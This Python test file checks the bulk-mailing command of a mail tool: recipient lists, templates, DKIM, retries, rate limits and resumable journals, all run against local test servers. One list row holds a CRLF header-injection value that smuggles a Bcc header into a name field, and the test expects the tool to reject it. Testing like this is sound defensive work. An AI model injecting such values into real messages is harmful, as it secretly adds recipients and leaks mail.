#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""tests/cli/test_bulk.py - letterwing bulk: lists, templates, journal; killed and run again"""
import collections
import csv
import email
import email.policy
import fcntl
import json
import os
import pty
import random
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import termios
import threading
import time
import unittest

import harness
from harness import LETTERWING, PATIENCE, Case, Peer, Sink, run, script

KILLS = int(os.environ.get('LW_KILLS', '50'))


class CountingSink:
    """A sink that writes what it accepted into a file: counts are read while it runs."""

    def __init__(self, folder, *args):
        self.path = os.path.join(folder, 'sink.jsonl')
        with open(self.path, 'wb') as out:
            self.process = subprocess.Popen(
                [LETTERWING, 'sink', '--json', '--listen', '127.0.0.1:0', *args], stdout=out,
                stdin=subprocess.DEVNULL)
        while not os.path.getsize(self.path):
            assert self.process.poll() is None
            os.sched_yield()
        with open(self.path, encoding='utf-8') as f:
            self.url = f'smtp://127.0.0.1:{json.loads(f.readline())["port"]}'

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.process.terminate()
        self.process.wait(PATIENCE)

    def accepted(self):
        """How often each address got a message; ends the sink."""
        self.process.terminate()
        self.process.wait(PATIENCE)
        count = collections.Counter()
        with open(self.path, encoding='utf-8') as f:
            next(f)
            for line in f:
                for to in json.loads(line)['recipients']:
                    count[to['address']] += 1
        return count


class Bulk(Case):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory(prefix='lw-bulk-')
        self.addCleanup(self.folder.cleanup)

    def path(self, name, text=None):
        path = os.path.join(self.folder.name, name)
        if text is not None:
            with open(path, 'wb') as f:
                f.write(text if isinstance(text, bytes) else text.encode())
        return path

    def list(self, n, first=1):
        rows = ''.join(f'user{i}@example{i % 3}.org,Name {i}\n' for i in range(first, first + n))
        return self.path('people.csv', 'email,name\n' + rows)

    def failures(self, path):
        with open(path, encoding='utf-8', newline='') as f:
            return list(csv.DictReader(f))


def start(*args):
    """A run that goes on by itself."""
    return subprocess.Popen([LETTERWING, 'bulk', *args], stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


BASIC = ['-f', 'Ann <ann@example.com>', '-s', 'Hello {{name}}', '--text', 'Dear {{name}}!\n']


class Messages(Bulk):
    def test_names_in_chinese_arrive_as_they_are(self):
        people = self.path('p.csv', '\ufeffemail;name;vip\r\na@example.org;王小明;\r\n'
                                    'b@example.org;"O\'Brien, ""Jo""";<gold>\r\n')
        html = self.path('l.html', '<p>Dear {{name}}</p>\n{{#vip}}\n<b>{{vip}}</b>\n{{/vip}}\n')
        with Sink() as sink:
            got = run('bulk', '--via', sink.url, '--list', people, '-f', 'ann@example.com',
                      '-s', '你好 {{name}}', '--html', '@' + html, '--to-name', '{{name}}', '--json')
            self.assertEqual(got.code, 0, got)
            mail = [email.message_from_bytes(m, policy=email.policy.default)
                    for _, m in sink.messages()]
        self.assertEqual(sorted(m['Subject'] for m in mail),
                         ['你好 O\'Brien, "Jo"', '你好 王小明'])
        for m in mail:
            to = m['To'].addresses[0]
            html = m.get_body(('html',)).get_content().replace('\r\n', '\n')
            self.assertEqual(to.display_name, m['Subject'][3:])
            if to.username == 'a':
                self.assertEqual(html, '<p>Dear 王小明</p>\n')
            else:
                self.assertEqual(html, '<p>Dear O&#39;Brien, &quot;Jo&quot;</p>\n<b>&lt;gold&gt;</b>\n')

    def test_same_row_same_message_id_other_row_another(self):
        people = self.list(3)
        ids = []
        for _ in range(2):
            got = run('bulk', '--list', people, *BASIC, '--dry-run=3')
            self.assertEqual(got.code, 0, got)
            ids.append([line for line in got.out.splitlines() if line.startswith('Message-ID')])
        self.assertEqual(ids[0], ids[1])
        self.assertEqual(len(set(ids[0])), 3)

    def test_unsubscribe_verp_headers_and_attachments_of_each_row(self):
        self.path('one.txt', 'first')
        self.path('two.txt', 'second')
        people = self.path('p.csv', 'email,file\nann+x@example.org,{0}/one.txt\n'
                                    'b@example.net,{0}/two.txt\n'.format(self.folder.name))
        with Sink() as sink:
            got = run('bulk', '--via', sink.url, '--list', people, '-f', 'ann@example.com',
                      '-s', 'Hi', '--text', 'x', '-a', '{{file}}', '-H', 'X-Row: {{email}}',
                      '--unsubscribe', 'https://example.com/u?a={{email}}', '--verp',
                      '--envelope-from', 'bounces@example.com')
            self.assertEqual(got.code, 0, got)
            messages = sink.messages()
        for envelope, octets in messages:
            m = email.message_from_bytes(octets, policy=email.policy.default)
            is_ann = 'ann' in m['X-Row']
            self.assertIn('bounces+ann+x=example.org@example.com' if is_ann
                          else 'bounces+b=example.net@example.com', json.dumps(envelope))
            self.assertEqual(m['List-Unsubscribe'], '<https://example.com/u?a=' + (
                'ann%2Bx%40example.org>' if is_ann else 'b%40example.net>'))
            self.assertEqual([a.get_content() for a in m.iter_attachments()],
                             ['first' if is_ann else 'second'])

    def test_ready_message_is_a_template(self):
        eml = self.path('t.eml', 'From: Ann <ann@example.com>\r\nTo: {{name}} <{{email}}>\r\n'
                        'Subject: =?UTF-8?Q?Gr=C3=BC=C3=9Fe?= {{name}}\r\nX-Campaign: {{name}}\r\n'
                        'Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n'
                        'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n'
                        'Content-Type: text/plain; charset=iso-8859-1\r\n'
                        'Content-Transfer-Encoding: quoted-printable\r\n\r\nGr=FC=DFe {{name}}\r\n'
                        '--b\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\nPDF {{name}}\r\n--b--\r\n')
        people = self.path('p.csv', 'email,name\na@example.org,李四\n')
        with Sink() as sink:
            got = run('bulk', '--via', sink.url, '--list', people, '--template', eml)
            self.assertEqual(got.code, 0, got)
            m = email.message_from_bytes(sink.one()[1], policy=email.policy.default)
        self.assertEqual(m['Subject'], 'Grüße 李四')
        self.assertEqual(m['X-Campaign'], '李四')
        self.assertEqual(m['To'].addresses[0].display_name, '李四')
        self.assertNotIn('2024', m['Date'])
        self.assertEqual(m.get_body().get_content().strip(), 'Grüße 李四')
        (pdf,) = m.iter_attachments()
        self.assertEqual(pdf.get_content().strip(), b'PDF {{name}}')

    def test_json_lines_from_standard_input(self):
        lines = ('{"email":"a@example.org","name":"Zo\\u00eb","n":3,"ok":true,"no":null}\n\n'
                 '{"email":"b@example.org","name":"B","n":1.5,"ok":false}\n[1]\n{"email":\n'
                 '{"email":"c@example.org","name":["x"],"n":1}\n')
        failed = self.path('f.csv')
        with Sink() as sink:
            got = run('bulk', '--via', sink.url, '--list', '-', '--format', 'jsonl', '-f', 'a@b.example',
                      '-s', '{{name}} {{n}}{{#ok}} ok{{/ok}}{{^no}} none{{/no}}', '--text', 'x',
                      '--json', '--failures', failed, stdin=lines)
            subjects = sorted(email.message_from_bytes(m, policy=email.policy.default)['Subject']
                              for _, m in sink.messages())
        self.assertEqual(subjects, ['B 1.5 none', 'Zoë 3 ok none'])
        self.assertEqual(got.code, 65, got)
        self.assertEqual((got.json['accepted'], got.json['bad']), (2, 3))
        self.assertEqual([(f['row'], f['line']) for f in self.failures(failed)],
                         [('3', '4'), ('4', '5'), ('5', '6')])

    def test_signed_messages_verify(self):
        key = self.path('k.pem')
        self.assertEqual(run('dkim', 'keygen', '--type', 'ed25519', key).code, 0)
        got = run('bulk', '--list', self.list(2), *BASIC, '--dkim', f'example.com:s:{key}',
                  '--sample', '2', '--save', self.path('mail'))
        self.assertEqual(got.code, 0, got)
        for name in os.listdir(self.path('mail')):
            with open(os.path.join(self.path('mail'), name), 'rb') as f:
                self.assertIn(b'DKIM-Signature: v=1; a=ed25519-sha256', f.read())


class Refused(Bulk):
    """Before anything is sent."""

    def check(self, code, said, *args, **more):
        with Peer(script(b'220 never\r\n')) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', *args, **more)
            self.assertEqual(got.code, code, got)
            self.assertIn(said, got.err)
            self.assertEqual(peer.seen, [])

    def test_what_is_wrong_is_said(self):
        people = self.list(3)
        for code, said, args in [
            (64, 'no list', BASIC),
            (64, 'no message', ['--list', people, '-f', 'a@b.c']),
            (64, 'no sender', ['--list', people, '--text', 'x']),
            (64, '--list', ['people.csv', *BASIC]),
            (65, 'no column "mail" for the address; its columns are: email, name',
             ['--list', people, '-f', 'a@b.c', '--text', 'x', '--to-field', 'mail']),
            (65, 'text line 2 column 3: the list has no column "nmae"; its columns are: email, name',
             ['--list', people, '-f', 'a@b.c', '--text', 'x\nyz{{nmae}}']),
            (65, 'line 1 column 1: {{ without }}', ['--list', people, '-f', 'a@b.c', '--text', '{{x']),
            (65, 'partial', ['--list', people, '-f', 'a@b.c', '--html', '{{>header}}']),
            (65, 'never closed', ['--list', people, '-f', 'a@b.c', '--html', '{{#name}}']),
            (66, 'cannot be read', ['--list', self.path('none.csv'), *BASIC]),
            (65, 'looks like JSON lines: add --format jsonl',
             ['--list', self.path('list', '{"email": "a@example.org", "n": 1}\n'), *BASIC]),
            (65, 'it is empty', ['--list', self.path('empty.csv', ''), *BASIC]),
            (65, 'with --delimiter', ['--list', self.path('amb.csv', 'email;x,name\n'), *BASIC]),
            (64, 'is no rate', ['--list', people, *BASIC, '--rate', '5/y']),
            (64, '--retry', ['--list', people, *BASIC, '--retry', '1,,2']),
            (73, 'cannot be written', ['--list', people, *BASIC, '--failures', '/nowhere/f.csv']),
            (73, 'cannot be written', ['--list', people, *BASIC, '--report', '/nowhere/r.html']),
            (73, 'journal /nowhere/j', ['--list', people, *BASIC, '--journal', '/nowhere/j']),
        ]:
            with self.subTest(said):
                self.check(code, said, *args)

    def test_strict_ends_at_a_bad_row_before_anything_is_sent(self):
        people = self.path('p.csv', 'email,name\na@example.org,A\nb@example.org\n')
        self.check(65, 'row 2 (line 3): it has 1 field, and there are 2 columns', '--list', people, *BASIC, '--strict')

    def test_journal_of_another_template_or_list_is_refused(self):
        people, journal = self.list(3), self.path('j')
        with Sink() as sink:
            self.assertEqual(run('bulk', '--via', sink.url, '--list', people, *BASIC,
                                 '--journal', journal).code, 0)
        report = self.path('report.html', 'of the first run')
        self.check(78, 'it belongs to another template', '--list', people, *BASIC[:-1], 'Else',
                   '--journal', journal, '--report', self.path('new.html'))
        self.assertFalse(os.path.exists(self.path('new.html')))
        self.check(78, 'it belongs to another template', '--list', people, *BASIC[:-1], 'Else',
                   '--journal', journal, '--report', report)
        with open(report, encoding='utf-8') as f:
            self.assertEqual(f.read(), 'of the first run')
        other = self.path('other.csv', 'email,name\nuser1@example1.org,Name 1\nx@example.org,X\n')
        self.check(78, 'it belongs to another list', '--list', other, *BASIC, '--journal', journal)

    def test_journal_of_another_attachment_in_the_template_is_refused(self):
        people, journal = self.list(3), self.path('j')
        eml = ('From: ann@example.com\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'
               '--b\r\n\r\ntext\r\n--b\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\n%s\r\n--b--\r\n')
        with Sink() as sink:
            self.assertEqual(run('bulk', '--via', sink.url, '--list', people, '--template',
                                 self.path('1.eml', eml % 'one'), '--journal', journal).code, 0)
        self.check(78, 'it belongs to another template', '--list', people, '--template',
                   self.path('2.eml', eml % 'two'), '--journal', journal)

    def test_journal_of_another_pipe_is_refused(self):
        journal = self.path('j')
        with Sink() as sink:
            self.assertEqual(run('bulk', '--via', sink.url, '--list', '-', *BASIC, '--journal', journal,
                                 stdin='email,name\na@example.org,A\nb@example.org,B\n').code, 0)
        self.check(78, 'row 2 of the list is not the row that it knows', '--list', '-', *BASIC,
                   '--journal', journal, stdin='email,name\na@example.org,A\nc@example.org,C\n')


def refusing(refuse, code=b'451 4.7.1 later', login=None):
    """A Peer's function: recipients for whom refuse(line) is true get the code, others 250; or the
    code that refuse(line) is.  login: what gives the replies to AUTH."""
    def serve(peer, connection):
        lines = connection.makefile('rb')
        connection.sendall(b'220 hi\r\n')
        is_data = False
        for line in lines:
            if is_data:
                is_data = line != b'.\r\n'
                if not is_data:
                    connection.sendall(b'250 ok\r\n')
            elif line.startswith(b'RCPT'):
                said = refuse(line)
                reply = said if isinstance(said, bytes) else code if said else b'250 ok'
                connection.sendall(reply + b'\r\n')
            elif line.startswith(b'DATA'):
                is_data = True
                connection.sendall(b'354 go\r\n')
            elif line.startswith(b'EHLO') and login:
                connection.sendall(b'250-hi\r\n250 AUTH PLAIN\r\n')
            elif line.startswith(b'AUTH'):
                connection.sendall(login())
            elif line.startswith(b'QUIT'):
                connection.sendall(b'221 bye\r\n')
                return
            else:
                connection.sendall(b'250 ok\r\n')
    return serve


class Rows(Bulk):
    def test_bad_rows_and_duplicates_do_not_stop_the_rest(self):
        people = self.path('p.csv', 'email,name\na@example.org,A\nA@EXAMPLE.org,again\nno address,B\n'
                                    'c@example.org,\nd@example.org,"x\ne@example.org,E\n'
                                    '",extra\nf@example.org,F\n,G\nh@example.org,"evil\r\nBcc: x@y.z"\n')
        failed = self.path('f.csv')
        with CountingSink(self.folder.name) as sink:
            got = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--failures', failed, '--json')
            self.assertEqual(got.code, 65, got)
            count = sink.accepted()
        self.assertEqual(count, {'a@example.org': 1, 'f@example.org': 1})
        rows = self.failures(failed)
        self.assertEqual([(r['row'], r['line'], r['outcome']) for r in rows],
                         [('2', '3', 'duplicate'), ('3', '4', 'bad'), ('4', '5', 'bad'),
                          ('5', '6', 'bad'), ('7', '10', 'bad'), ('8', '11', 'bad')])
        self.assertIn('column "name" is empty', rows[2]['reason'])
        j = got.json
        self.assertEqual(j['total'], sum(j[k] for k in ('accepted', 'rejected', 'deferred', 'unsent',
                                                        'uncertain', 'skipped')))

    def test_bad_row_leaves_its_address_to_the_next(self):
        people = self.path('p.csv', 'email,name\na@example.org,\nA@example.org,Ann\na@example.org,A\n')
        failed, journal = self.path('f.csv'), self.path('j')
        with CountingSink(self.folder.name) as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--failures', failed]
            for more in ['--dry-run'], ['--journal', journal], ['--journal', journal]:
                with self.subTest(more):
                    self.assertEqual(run(*args, *more).code, 65)
                    self.assertEqual([(r['row'], r['outcome']) for r in self.failures(failed)],
                                     [('1', 'bad'), ('3', 'duplicate')])
            self.assertEqual(sink.accepted(), {'A@example.org': 1})

    def test_refused_recipients_are_told_and_not_tried_again(self):
        people, failed, journal = self.list(30), self.path('f.csv'), self.path('j')
        with CountingSink(self.folder.name, '--reject', 'user7@example1.org,user8@example2.org') as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--failures', failed,
                    '--journal', journal, '--json']
            got = run(*args)
            self.assertEqual(got.code, 69, got)
            self.assertEqual((got.json['accepted'], got.json['rejected']), (28, 2))
            again = run(*args)
            self.assertEqual((again.code, again.json['accepted_before'],
                              again.json['rejected_before']), (69, 28, 2), again)
            self.assertEqual(len(sink.accepted()), 28)
        self.assertEqual(sorted((r['address'], r['outcome'], r['code']) for r in self.failures(failed)),
                         [('user7@example1.org', 'rejected', '550'),
                          ('user8@example2.org', 'rejected', '550')])

    def test_all_refused_is_67(self):
        with Sink('--reject', 'user1@example1.org') as sink:
            self.assertEqual(run('bulk', '--via', sink.url, '--list', self.list(1), *BASIC).code, 67)

    def test_what_was_refused_before_counts_as_what_is_refused_now(self):
        everybody = ','.join(f'user{i}@example{i % 3}.org' for i in range(1, 4))
        for reject, n, code in ('user1@example1.org', 1, 69), (everybody, 3, 67), ('x@y.example', 0, 0):
            args = ['bulk', '--list', self.list(3), *BASIC, '--journal', self.path(f'{code}.j')]
            with self.subTest(code), Sink('--reject', reject) as sink:
                self.assertEqual(run(*args, '--via', sink.url).code, code)
                again = run(*args, '--via', sink.url)
            self.assertEqual(again.code, code, again)
            self.assertRegex(again.out, rf'\ndone before +3  \({3 - n} accepted, {n} rejected\)\n')
            self.assertEqual('dealt with; %d w' % n in again.err, n > 0, again)

    def test_deferred_is_tried_again_in_the_run_then_told(self):
        failed = self.path('f.csv')
        tries = collections.Counter()

        def is_late(line):
            tries[line] += 1
            return b'user1@' in line and tries[line] < 3 or b'user2@' in line

        with Peer(refusing(is_late)) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(3), *BASIC,
                      '--retry', '0.01,0.02,0.03', '--failures', failed, '--json', '--connections', '1')
        self.assertEqual(got.code, 75, got)
        self.assertEqual((got.json['accepted'], got.json['deferred']), (2, 1))
        self.assertEqual(sorted(tries.values()), [1, 3, 4])
        self.assertEqual([(r['address'], r['outcome'], r['code'], r['enhanced'])
                          for r in self.failures(failed)],
                         [('user2@example2.org', 'deferred', '451', '4.7.1')])

    def test_server_that_is_not_there_ends_the_run_with_everything_unsent(self):
        with Peer(script(b'')) as peer:
            port = peer.port
        failed = self.path('f.csv')
        for retry, offered in ('no', range(64, 129)), ('0.01', range(32, 129)):
            got = run('bulk', '--via', f'smtp://127.0.0.1:{port}', '--list', self.list(500), *BASIC,
                      '--json', '--retry', retry, '--failures', failed)
            self.assertEqual(got.code, 69, got)
            self.assertEqual((got.json['unsent'], got.json['total']), (500, 500))
            self.assertIn('connection refused', got.err)
            self.assertIn(len(self.failures(failed)), offered)

    def test_row_that_ends_every_connection_ends_nothing_else(self):
        def is_poison(line):
            if b'<user5@' in line:
                raise ConnectionError
            return False

        failed = self.path('f.csv')
        with Peer(refusing(is_poison)) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(200), *BASIC,
                      '--retry', '0.01,0.01', '--failures', failed, '--json')
        self.assertEqual((got.json['accepted'], got.json['unsent'], got.json['error']), (199, 1, None), got)
        self.assertEqual([(r['row'], r['outcome']) for r in self.failures(failed)], [('5', 'unsent')])

    def test_row_that_the_server_cannot_take_ends_nothing_else(self):
        big, small = self.path('big', b'x' * 30000), self.path('small', b'x')
        for args, address, file, reason in (
                (['--size', '20000'], 'user100@example.org', big, 'at most 20000'),
                (['--without', 'SMTPUTF8'], 'jürg@example.org', small, 'SMTPUTF8')):
            rows = [f'user{i}@example.org,{small}' for i in range(300)]
            rows[100] = f'{address},{file}'
            people, failed = self.path('p.csv', '\n'.join(['email,file', *rows])), self.path('f.csv')
            with self.subTest(reason), CountingSink(self.folder.name, *args) as sink:
                got = run('bulk', '--via', sink.url, '--list', people, '-f', 'a@example.com', '-s', 'x',
                          '--text', 'x', '-a', '{{file}}', '--retry', '3600', '--failures', failed, '--json')
                self.assertEqual((got.json['accepted'], got.json['unsent'], got.json['error']),
                                 (299, 1, None), got)
                (row,) = self.failures(failed)
                self.assertEqual((row['address'], row['outcome']), (address, 'unsent'))
                self.assertIn(reason, row['reason'])

    def test_server_that_can_take_no_row_ends_the_run(self):
        failed = self.path('f.csv')
        with Sink('--size', '100') as sink:
            got = run('bulk', '--via', sink.url, '--list', self.list(500), *BASIC, '--failures', failed,
                      '--json')
        self.assertEqual((got.code, got.json['unsent'], got.json['error']['name']),
                         (69, 500, 'ECAPABILITY'), got)
        self.assertIn(len(self.failures(failed)), range(64, 129))

    def test_login_that_fails_for_now_is_tried_again(self):
        replies = iter([b'454 4.7.0 later\r\n'])

        with Peer(refusing(lambda line: False, login=lambda: next(replies, b'235 in\r\n'))) as peer:
            got = run('bulk', '--via', f'smtp://u:p@127.0.0.1:{peer.port}?tls=none&insecure-auth=yes',
                      '--list', self.list(100), *BASIC, '--retry', '0.01', '--json')
        self.assertEqual((got.code, got.json['accepted'], list(replies)), (0, 100, []), got)

    def test_starttls_that_fails_for_now_is_tried_again(self):
        with Peer(script(b'220 hi\r\n', b'250-hi\r\n250 STARTTLS\r\n', b'454 4.7.0 later\r\n')) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}?tls=required', '--list', self.list(1),
                      *BASIC, '--retry', '0.01', '--json')
        self.assertEqual((got.code, peer.seen.count(b'STARTTLS\r\n')), (75, 2), got)

    def test_limit_and_journal_go_through_a_list_in_parts(self):
        people, journal = self.list(25), self.path('j')
        with CountingSink(self.folder.name) as sink:
            sums = []
            for _ in range(4):
                got = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', journal,
                          '--limit', '10', '--json')
                sums.append((got.json['accepted'], got.json['done_before'], got.json['unsent']))
            self.assertEqual(sums, [(10, 0, 15), (10, 10, 5), (5, 20, 0), (0, 25, 0)])
            self.assertEqual(got.code, 0, got)
            self.assertEqual(set(sink.accepted().values()), {1})

    def test_rows_that_are_deferred_each_time_use_up_no_limit(self):
        tries = []

        def is_late(line):
            tries.append(int(line.split(b'<user')[1].split(b'@')[0]))
            return tries[-1] <= 6

        people, failed = self.list(10), self.path('f.csv')
        with open(people, 'a', encoding='utf-8') as f:
            f.write('USER2@example2.org,again\n')
        with Peer(refusing(is_late)) as peer:
            args = ['bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC, '--journal',
                    self.path('j'), '--limit', '4', '--retry', 'no', '--failures', failed, '--json']
            for tried, unsent, late in [([1, 2, 3, 4], 7, [1, 2, 3, 4]), ([5, 6, 7, 8], 7, [5, 6]),
                                        ([1, 2, 9, 10], 4, [1, 2]), ([1, 2, 3, 4], 2, [1, 2, 3, 4])]:
                tries.clear()
                got = run(*args)
                self.assertEqual(sorted(tries), tried, got)
                self.assertEqual((got.code, got.json['unsent'], got.json['total']), (75, unsent, 11), got)
                self.assertEqual(sorted(int(r['row']) for r in self.failures(failed)
                                        if r['outcome'] == 'deferred'), late)
            self.assertEqual(got.json['duplicates'], 1)
            got = run(*args[:-7], '--retry', 'no', '--json')
        self.assertEqual((got.json['deferred'], got.json['done_before'], got.code), (6, 4, 75), got)

    def test_75_is_the_same_command_goes_on(self):
        def reply(line):
            return {b'd': b'451 4.7.1 later', b'r': b'550 5.1.1 nobody'}.get(line.split(b'<')[1][:1])

        for rows, limit, code in [('ad', 0, 75), ('d', 0, 75), ('ar', 0, 69), ('rd', 0, 69),
                                  ('ard', 0, 69), ('rr', 0, 67), ('da', 1, 75), ('ra', 1, 75),
                                  ('rrr', 2, 75)]:
            people = self.path('p.csv', 'email,name\n' + ''.join(
                f'{who}{i}@example.org,N\n' for i, who in enumerate(rows)))
            more = ['--limit', str(limit)] if limit else []
            with self.subTest(rows), Peer(refusing(reply)) as peer:
                got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC,
                          '--retry', 'no', '--journal', self.path(rows + '.j'), *more)
            self.assertEqual(got.code, code, got)
            self.assertEqual(f'--limit {limit} was reached, and 1 of the list are left' in got.err,
                             limit > 0, got)
            self.assertEqual(', besides 1 that was not sent or deferred; run the' in got.err,
                             rows == 'da', got)

    def test_done_rows_behind_the_end_of_the_run_are_done(self):
        args = ['bulk', '--list', self.list(300), *BASIC, '--journal', self.path('j'), '--retry', 'no',
                '--json']
        late = {b'<user%d@' % i for i in range(1, 11)}
        with Peer(refusing(lambda line: any(who in line for who in late))) as peer:
            args += ['--via', f'smtp://127.0.0.1:{peer.port}']
            first = run(*args, '--limit', '100').json
            self.assertEqual((first['accepted'], first['deferred'], first['unsent']), (90, 10, 200))
            j = run(*args, '--limit', '5').json
        self.assertEqual((j['done_before'], j['unsent'], j['accepted'] + j['deferred'], j['total']),
                         (90, 205, 5, 300))
        self.assertEqual(j['total'], sum(j[k] for k in ('accepted', 'rejected', 'deferred', 'unsent',
                                                        'uncertain', 'skipped')))

    def test_done_row_with_an_address_that_stands_twice_is_counted_once(self):
        people = self.path('p.csv', 'email,name\na@example.org,A\nA@example.org,B\n')
        with Sink() as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', self.path('j'),
                    '--json']
            self.assertEqual(run(*args, '--keep-duplicates').json['accepted'], 2)
            j = run(*args).json
        self.assertEqual((j['done_before'], j['duplicates'], j['total']), (2, 0, 2))


def chunks(peer, connection, hold=None, lone=False):
    """A server with PIPELINING and CHUNKING.  peer.seen gets how many transactions were unanswered
    whenever one was complete.  hold: so many are waited for before any is answered, but for the
    first, which comes alone: it shows whether PIPELINING works.  lone: it looks whether a command came before the one before it was answered."""
    lines = connection.makefile('rb', buffering=0)
    connection.sendall(b'220 hi\r\n')
    begun, complete, left = 0, 0, peer.rows
    while line := lines.readline():
        reply = b'250 ok\r\n'
        if line.startswith(b'EHLO'):
            reply = b'250-hi\r\n250-PIPELINING\r\n250 CHUNKING\r\n'
        elif line.startswith(b'MAIL'):
            begun += 1
        elif line.startswith(b'BDAT'):
            size = int(line.split()[1])
            while size > 0:
                size -= len(lines.read(size))
            complete += 1
            peer.seen.append(begun)
            if hold and left < peer.rows and complete < min(hold, left):
                continue
            left -= complete
            reply *= complete
            begun, complete = 0, 0
        if lone:
            try:
                peer.early.append(connection.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT))
            except BlockingIOError:
                pass
        connection.sendall(reply)
        if line.startswith(b'QUIT'):
            return


class Options(Bulk):
    def peer(self, rows, **more):
        peer = Peer(lambda peer, connection: chunks(peer, connection, **more))
        peer.rows, peer.early = rows, []
        return peer

    def test_limit_counts_messages_and_is_named_at_the_end(self):
        people = self.path('p.csv', 'email,name\nno address,X\na@example.org\nb@example.org,\n'
                                    'c@example.org,C\nc@example.org,C\nd@example.org,D\n')
        with Sink() as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--limit', '1']
            self.assertIn('1 messages can be made, 3 rows are bad', run(*args, '--dry-run').err)
            got = run(*args)
            self.assertEqual([m.count(b'c@example.org') for _, m in sink.messages()], [1])
        self.assertEqual(got.code, 75, got)
        self.assertIn('--limit 1 was reached, and 2 of the list are left; without --journal', got.err)
        self.assertIn('3 rows are bad: --failures FILE.csv would say which.', got.err)

    def test_first_server_that_can_be_reached_is_taken(self):
        with Peer(script(b'')) as gone:
            port = gone.port
        with CountingSink(self.folder.name) as sink:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{port}', '--via', sink.url, '--list',
                      self.list(20), *BASIC, '--retry', '0.01', '--json')
            self.assertEqual((got.code, got.json['accepted']), (0, 20), got)
            self.assertEqual(len(sink.accepted()), 20)

    def test_to_field_names_the_column(self):
        people = self.path('p.csv', 'email,name,work\nhome@example.org,A,a@example.org\n')
        with CountingSink(self.folder.name) as sink:
            got = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--to-field', 'work')
            self.assertEqual(got.code, 0, got)
            self.assertEqual(sink.accepted(), {'a@example.org': 1})

    def test_so_many_connections_are_open_at_once(self):
        all_there, own = threading.Barrier(3), threading.local()

        def serve(peer, connection):
            peer.seen.append(1)
            own.has_waited = False
            refusing(wait_once)(peer, connection)

        def wait_once(line):
            if not own.has_waited:
                own.has_waited = True
                all_there.wait(PATIENCE / 2)  # fewer than three would wait for ever
            return False

        with Peer(serve) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(60), *BASIC,
                      '--connections', '3', '--json')
        self.assertEqual((got.code, got.json['accepted'], len(peer.seen)), (0, 60, 3), got)

    def test_window_is_filled_and_never_more(self):
        for window in (1, 3):
            with self.subTest(window), self.peer(7, hold=window) as peer:
                got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(7),
                          *BASIC, '--connections', '1', '--window', str(window), '--json')
                self.assertEqual((got.code, got.json['accepted']), (0, 7), got)
                self.assertEqual(max(peer.seen), window)

    def test_no_pipelining_sends_one_command_at_a_time(self):
        with self.peer(5, lone=True) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(5), *BASIC,
                      '--connections', '1', '--no-pipelining', '--json')
            self.assertEqual((got.code, got.json['accepted'], peer.early), (0, 5, []), got)
        with self.peer(5, lone=True) as peer:
            run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(5), *BASIC,
                '--connections', '1')
            self.assertNotEqual(peer.early, [])

    def test_rates_hold_back(self):
        """No run is faster than its rate; how much slower a machine makes it is not looked at."""
        people = self.path('p.csv', 'email,name\n' + ''.join(
            f'user{i}@example.org,N\n' for i in range(20)))
        for option in ('--rate', '--rate-per-domain'):
            for rate in ('50/s', '3000/min', '180000/h'):
                with self.subTest(option, rate=rate), Sink(save=False) as sink:
                    got = run('bulk', '--via', sink.url, '--list', people, *BASIC, option, rate, '--json')
                    self.assertEqual((got.code, got.json['accepted']), (0, 20), got)
                    self.assertGreater(got.json['seconds'], 17 / 50)

    def test_sample_is_from_all_over_the_list_and_sends_nothing(self):
        mail = self.path('mail')
        got = run('bulk', '--list', self.list(100), *BASIC, '--sample', '4', '--save', mail)
        self.assertEqual(got.code, 0, got)
        self.assertEqual(sorted(os.listdir(mail)),
                         ['row-000001.eml', 'row-000026.eml', 'row-000051.eml', 'row-000076.eml'])
        with open(mail + '/row-000051.eml', 'rb') as f:
            m = email.message_from_binary_file(f, policy=email.policy.default)
        self.assertEqual((m['To'], m['Subject']), ('user51@example0.org', 'Hello Name 51'))
        self.assertIn('nothing was sent', got.err)

    def test_dry_run_tells_bad_rows_and_duplicates_as_a_run_does(self):
        people = self.path('p.csv', 'email,name\na@example.org,A\nA@Example.org,again\nno address,B\n'
                                    'c@example.org\nd@example.org,D\n')
        dry, sent = self.path('dry.csv'), self.path('sent.csv')
        got = run('bulk', '--list', people, *BASIC, '--dry-run=2', '--failures', dry)
        self.assertEqual(got.code, 65, got)
        self.assertIn('2 messages can be made, 2 rows are bad, 1 are duplicates', got.err)
        self.assertEqual(got.out.count('Message-ID:'), 2)
        with CountingSink(self.folder.name) as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--failures', sent,
                    '--journal', self.path('j')]
            self.assertEqual(run(*args).code, 65)
            self.assertEqual(len(sink.accepted()), 2)
        self.assertEqual(self.failures(dry), self.failures(sent))
        self.assertEqual(run(*args, '--dry-run').code, 65)
